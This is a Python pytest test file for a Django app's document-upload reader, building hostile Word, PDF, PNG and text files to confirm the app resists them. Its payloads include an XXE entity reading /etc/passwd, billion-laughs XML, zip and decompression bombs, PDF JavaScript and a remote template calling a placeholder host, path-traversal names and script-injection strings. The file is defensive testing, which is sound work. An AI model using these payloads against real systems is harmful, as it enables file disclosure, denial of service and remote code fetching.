"""Documents sent to do harm, really sent: each is a helpful page or a harmless review, and none is a fault of ours."""

import io
import socket
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reportlab.pdfgen.canvas import Canvas

from tertial.planning.models import Passage, Proposal, Reading
from tertial.planning.tasks import read_document
from tests.bounded import within
from tests.papers import a_paper, as_shown, to_adopt
from tests.plans.as_docx import as_docx
from tests.plans.as_pdf import as_pdf
from tests.plans.generator import truth

DRAFT = truth(7).draft
WORD = as_docx(DRAFT)
PDF = as_pdf(DRAFT, 7)
TEXT = a_paper(7).decode()
SECRET = "root:x:0:0"
FOREIGN = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = b"<!DOCTYPE a [%s]>" % b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(12)
)
FAR = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://192.0.2.1/mall.dotm" TargetMode="External"/></Relationships>'
)


class Silent:
    def at(self, *_told):
        pass


def word(change: dict[str, bytes], prefix: bytes = b"") -> bytes:
    """The Word file with parts changed or added; `prefix` stands before the document's own root."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(WORD)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = change.pop(name, None) or old.read(name)
            if prefix and name == "word/document.xml":
                head, rest = data.split(b"?>", 1) if data.startswith(b"<?xml") else (b"", data)
                data = head + (b"?>" if head else b"") + prefix + rest
            new.writestr(name, data)
        for name, data in change.items():
            new.writestr(name, data)
    return out.getvalue()


def picture(width: int, height: int) -> bytes:
    """A PNG that says it is enormous."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 99)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts
    )


def bomb() -> bytes:
    return word({"word/document.xml": b"<a>" + b" " * 120_000_000 + b"</a>"})


def lying_bomb() -> bytes:
    """A zip whose own list says that the large part is small."""
    data = bytearray(bomb())
    at = data.rfind(b"PK\x01\x02")
    while at >= 0:
        name = data[at + 46 : at + 46 + struct.unpack_from("<H", data, at + 28)[0]]
        if name == b"word/document.xml":
            struct.pack_into("<I", data, at + 24, 500)
        at = data.rfind(b"PK\x01\x02", 0, at)
    return bytes(data)


def script_in_pdf() -> bytes:
    out = io.BytesIO()
    paper = Canvas(out)
    paper.drawString(72, 700, "Nämndmål: 1.1.1")
    paper.showPage()
    paper.save()
    action = b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) >>"
    return out.getvalue().replace(b"/Type /Catalog", action, 1)


def huge_picture_in_pdf() -> bytes:
    stream = zlib.compress(b"\0" * 1000)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 90000 /Height 90000 /ColorSpace /DeviceRGB /BitsPerComponent 8"
        b" /Filter /FlateDecode /Length %d >>" % len(stream)
    )
    return small_pdf([image + b"\nstream\n" + stream + b"\nendstream"], b"/XObject << /I 5 0 R >>", b"/I Do")


def squeezed_in_pdf() -> bytes:
    """A page whose few bytes unpack to 80 million."""
    stream = zlib.compress(b"% " + b"a" * 80_000_000 + b"\n", 9)
    body = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
    return small_pdf([], b"", b"", body)


def ring_in_pdf() -> bytes:
    """A list of pages that holds itself."""
    return small_pdf([], b"", b"").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def small_pdf(more: list[bytes], resources: bytes, drawn: bytes, stream: bytes = b"") -> bytes:
    words = b"BT /F1 12 Tf 72 700 Td (Namndmal: 1.1.1) Tj ET " + drawn
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << %s"
        b" /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>" % resources,
        stream or b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words),
        *more,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF"
        % (
            size,
            table,
            size,
            len(out),
        )
    )


def text(old: str, new: str) -> bytes:
    assert old in TEXT
    return TEXT.replace(old, new).encode("utf-8", "surrogatepass")


# What is sent, and what its page says; an empty word: it is read and can be reviewed.
SENT = {
    "macros": (lambda: word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 500}), ""),
    "an external entity": (lambda: word({}, FOREIGN), "entiteter"),
    "a billion laughs": (lambda: word({}, LAUGHS), "entiteter"),
    "an entity among the styles": (lambda: word({"word/styles.xml": FOREIGN + b"<a>&b;</a>"}), "entiteter"),
    "a template from far away": (lambda: word({"word/_rels/settings.xml.rels": FAR}), ""),
    "a huge picture in Word": (lambda: word({"word/media/image1.png": picture(90_000, 90_000)}), ""),
    "a zip bomb": (bomb, "orimligt"),
    "a zip bomb that lies": (lying_bomb, "Word-filen"),
    "paths that lead out": (lambda: word({"../../../tmp/tertial-was-here": b"x"}), ""),
    "script in a PDF": (script_in_pdf, ""),
    "a huge picture in a PDF": (huge_picture_in_pdf, ""),
    "a squeezed page": (squeezed_in_pdf, "orimligt"),
    "a ring of pages": (ring_in_pdf, "PDF-filen"),
    "half a PDF": (lambda: PDF[: len(PDF) // 2], None),
    "nul characters": (lambda: text("mnkr", "mn\0kr"), ""),
    "half a character": (lambda: text("mnkr", "mnkr \ud83d"), None),
    "half a character in UTF-16": (
        lambda: b"\xff\xfe" + (TEXT + "\ud83d").encode("utf-16-le", "surrogatepass"),
        None,
    ),
    "an endless number": (lambda: text(" %", " " + "9" * 400 + " %"), ""),
    "a script": (lambda: text("Aktivitet", "<script>alert(1)</script> Aktivitet"), ""),
    "a very long line": (lambda: (TEXT + "a" * 3_000_000).encode(), ""),
    "a thousand brackets": (lambda: (TEXT + "(" * 50_000).encode(), ""),
}
NAMES = [
    "../../../etc/passwd",
    "a" * 400 + ".pdf",
    "<script>alert(1)</script>.txt",
    "plan\r\nX: y.txt",
    "CON",
    "¤.txt",
]


@pytest.fixture
def no_network(monkeypatch):
    """Whoever asks the network for anything is caught."""

    def refuse(self, address, *_more):
        if self.family in (socket.AF_INET, socket.AF_INET6) and "192.0.2" in str(address):
            pytest.fail(f"asked for {address}")
        return connect(self, address, *_more)

    connect = socket.socket.connect
    monkeypatch.setattr(socket.socket, "connect", refuse)


def send(client, content: bytes, name: str = "plan.pdf") -> Reading:
    file = SimpleUploadedFile("x", content)
    file._name = name  # as a browser that obeys nothing sends it
    answer = client.post(reverse("reading_new"), {"unit": "strand", "year": "2027", "file": file})
    assert answer.status_code == 302
    reading = Reading.objects.get()
    with within(60):
        read_document(Silent(), reading=reading.pk)
        reading.refresh_from_db()
        if reading.state == "waiting":  # large: handed to the second worker
            read_document(Silent(), reading=reading.pk, is_long=True)
    reading.refresh_from_db()
    return reading


@pytest.mark.parametrize("what", SENT)
def test_what_is_sent_does_no_harm(signed_in, city, what, no_network):
    make, said = SENT[what]
    client = signed_in("siv")
    reading = send(client, make())
    page = client.get(reverse("reading", args=[reading.key]))
    assert page.status_code == 200
    assert not Passage.objects.filter(text__contains=SECRET).exists()
    assert "<script>alert" not in page.content.decode()
    if said is not None:
        assert reading.state == ("failed" if said else "ready"), reading.problem
        assert said in reading.problem
    if reading.state == "failed":
        assert reading.problem in page.content.decode().replace("&quot;", '"')
        assert not Proposal.objects.exists()
        return
    for view in ("hela", "forra", "anmarkningar"):
        shown = client.get(reverse("reading", args=[reading.key]), {"vy": view})
        assert shown.status_code == 200
        assert "<script>alert" not in shown.content.decode()
    seen = as_shown(client, reading)
    client.post(reverse("reading_choose", args=[reading.key]), {"accept": "all"} | seen)
    assert not reading.proposals.filter(choice="open").exists()
    done = client.post(reverse("reading_adopt", args=[reading.key]), to_adopt(client, reading))
    assert done.status_code == 302 or list(done.context["form"].errors), "a plan, or one sentence on why not"


@pytest.mark.parametrize("name", NAMES)
def test_a_files_name_is_a_name(signed_in, city, name):
    client = signed_in("siv")
    reading = send(client, a_paper(), name)
    assert reading.state == "ready"
    page = client.get(reverse("reading", args=[reading.key]))
    assert page.status_code == 200
    assert "<script>alert" not in page.content.decode()
    assert len(reading.document.name) <= 255
    assert "/" not in reading.document.name


def test_a_file_that_is_too_large_is_told(signed_in, city, settings):
    settings.UPLOAD_MAX_BYTES = 1500
    file = SimpleUploadedFile("plan.txt", b"a" * 2000)
    page = signed_in("siv").post(reverse("reading_new"), {"unit": "strand", "year": "", "file": file})
    assert page.status_code == 422
    assert "större än" in page.content.decode()
    assert not Reading.objects.exists()


def test_a_file_that_is_far_too_large_is_not_even_received(signed_in, city, settings):
    settings.UPLOAD_MAX_BYTES = 1000
    file = SimpleUploadedFile("plan.txt", b"a" * 9000)
    page = signed_in("siv").post(reverse("reading_new"), {"unit": "strand", "year": "", "file": file})
    assert page.status_code == 413
    assert "<h1>" in page.content.decode()
